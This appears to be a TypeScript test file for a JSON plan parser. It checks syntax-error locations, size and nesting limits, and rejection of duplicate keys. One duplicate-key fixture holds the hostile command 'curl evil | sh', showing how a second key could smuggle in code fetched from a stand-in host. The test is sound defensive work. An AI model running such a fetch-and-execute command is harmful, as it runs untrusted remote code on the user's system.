import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { InvalidInputError } from '../../src/errors.js';
import { DuplicateKeyError } from '../../src/json/duplicate-keys.js';
import { MAX_PLAN_BYTES, MAX_PLAN_DEPTH, parsePlanText, syntaxErrorOffset } from '../../src/plan/parse.js';

function parseError(text: string): InvalidInputError {
  try {
    parsePlanText(text, 'plans/p.json');
  } catch (error) {
    if (error instanceof InvalidInputError) return error;
    throw error;
  }
  throw new Error('expected parsePlanText to throw');
}

describe('parsePlanText', () => {
  it('parses JSON (a byte order mark is tolerated)', () => {
    expect(parsePlanText('{"id": "r", "items": []}', 'p')).toEqual({ id: 'r', items: [] });
    expect(parsePlanText('\uFEFF{"a": [1, null]}', 'p')).toEqual({ a: [1, null] });
  });

  it('locates a syntax error by line and column, names the source and shows the line', () => {
    const e = parseError('{\n  "id": "r",\n    x\n}');
    expect(e.code).toBe('plan-not-json');
    expect(e.source).toBe('plans/p.json');
    expect(e.problems).toEqual([{ path: '$', message: expect.stringMatching(/ at line 3, column 5$/) }]);
    expect(e.hint).toMatch(/^fix the JSON syntax at line 3, column 5 of plans\/p\.json/);
    expect(e.hint).toContain('  3 |     x\n          ^');
    expect(e.message).toContain('plans/p.json: 1 problem');
  });

  it.each([
    ['[1,]', "Unexpected token ']'", 1, 4],
    ['{"id": tru}', "Unexpected token '}'", 1, 11],
    ['{"id": "r"}}', 'Unexpected non-whitespace character after JSON', 1, 12],
    ['{"id":\n', 'Unexpected end of JSON input', 2, 1],
    ['   ', 'the plan is empty', 1, 4],
  ])('%j → %s at line %i, column %i', (text, what, line, column) => {
    expect(parseError(text).problems[0]!.message).toBe(`${what} at line ${line}, column ${column}`);
  });

  it('refuses a plan over 5 MiB, saying how big it is and what the limit is', () => {
    const text = JSON.stringify({ id: 'r', pad: 'x'.repeat(MAX_PLAN_BYTES) });
    const e = parseError(text);
    expect(e.code).toBe('plan-too-large');
    expect(e.problems[0]!.message).toMatch(/^the plan is 5\.0 MiB \(\d+ bytes\); the limit is 5 MiB/);
    // Exactly at the limit is fine; multi-byte characters count as bytes.
    const atLimit = `"${'x'.repeat(MAX_PLAN_BYTES - 2)}"`;
    expect(parsePlanText(atLimit, 'p')).toHaveLength(MAX_PLAN_BYTES - 2);
    expect(parseError(`"${'é'.repeat(MAX_PLAN_BYTES / 2)}"`).code).toBe('plan-too-large');
  });
});

describe('duplicate keys in a plan', () => {
  it('are refused with the key, its JSON path, both positions and the fix: a reviewer must read what runs', () => {
    const text = '{\n  "id": "r",\n  "items": [\n    { "id": "a", "inputs": { "run": "echo hello", "run": "curl evil | sh" } }\n  ]\n}\n';
    expect(JSON.parse(text).items[0].inputs.run).toBe('curl evil | sh'); // what would have executed
    const e = parseError(text);
    expect(e).toBeInstanceOf(DuplicateKeyError);
    expect(e.code).toBe('plan-duplicate-key');
    expect(e.source).toBe('plans/p.json');
    expect(e.problems).toEqual([
      {
        path: '$.items[0].inputs.run',
        message: 'the key "run" appears twice in one object (line 4, column 30 and line 4, column 51); JSON parsers disagree on which one counts',
      },
    ]);
    expect(e.message).toBe(`plans/p.json: $.items[0].inputs.run: ${e.problems[0]!.message}`);
    expect(e.hint).toMatch(/^keep one "run" at \$\.items\[0\]\.inputs/);
    // An escaped spelling of the same key is the same key.
    expect(parseError('{"id": "r", "\\u0069d": "s"}').problems[0]!.path).toBe('$.id');
    // Equal keys in different objects are fine.
    expect(parsePlanText('{"id": "r", "items": [{"id": "a"}, {"id": "b"}]}', 'p')).toMatchObject({ id: 'r' });
  });
});

describe('syntaxErrorOffset', () => {
  it('is undefined exactly when JSON.parse accepts the text', () => {
    const token = fc.constantFrom('{', '}', '[', ']', ',', ':', '"a"', '"\\u00', '"\\x"', '1', '-', '0', '.5', 'e3', 'true', 'nul', ' ', '\n');
    fc.assert(
      fc.property(fc.array(token, { maxLength: 10 }), (tokens) => {
        const text = tokens.join('');
        let valid = true;
        try {
          JSON.parse(text);
        } catch {
          valid = false;
        }
        expect(syntaxErrorOffset(text) === undefined).toBe(valid);
      }),
      { numRuns: 5000 },
    );
  });

  it('handles deep nesting without recursion', () => {
    expect(syntaxErrorOffset('['.repeat(100_000) + ']'.repeat(100_000))).toBeUndefined();
    expect(syntaxErrorOffset('['.repeat(100_000))).toBe(100_000);
  });
});

describe('plan nesting limit', () => {
  /** A plan whose one item's `inputs.x` holds `levels` arrays inside one another. */
  function nested(levels: number): string {
    return `{"id":"r","items":[{"id":"a","executor":"command","inputs":{"run":"true","x":${'['.repeat(levels)}${']'.repeat(levels)}}}]}`;
  }

  it(`refuses the 10 KB plan nested 5,000 deep at validation, naming the JSON path of the first value past ${MAX_PLAN_DEPTH} levels`, () => {
    const text = nested(5000);
    expect(text.length).toBeGreaterThan(10_000);
    const e = parseError(text);
    expect(e.code).toBe('plan-too-deep');
    // plan (1) → items (2) → item (3) → inputs (4) → x (5) … the first array past level 64 is x's 60th.
    expect(e.problems).toEqual([{ path: `$.items[0].inputs.x${'[0]'.repeat(60)}`, message: expect.stringContaining(`the limit is ${MAX_PLAN_DEPTH}`) }]);
    expect(e.message).toContain('plans/p.json: 1 problem');
    expect(e.hint).toContain('flatten');
  });

  it(`accepts exactly ${MAX_PLAN_DEPTH} levels and refuses ${MAX_PLAN_DEPTH + 1}`, () => {
    expect(() => parsePlanText(nested(MAX_PLAN_DEPTH - 4), 'p')).not.toThrow();
    expect(parseError(nested(MAX_PLAN_DEPTH - 3)).code).toBe('plan-too-deep');
  });

  it('names object keys in the path, quoting the ones that need it', () => {
    let text = '"leaf"';
    for (let i = 0; i <= MAX_PLAN_DEPTH; i++) text = `{"k ${i % 2}":${text}}`; // 65 objects: the innermost is too deep
    expect(parseError(text).problems[0]!.path).toBe('$' + Array.from({ length: MAX_PLAN_DEPTH }, (_, i) => `["k ${(MAX_PLAN_DEPTH - i) % 2}"]`).join(''));
  });
});
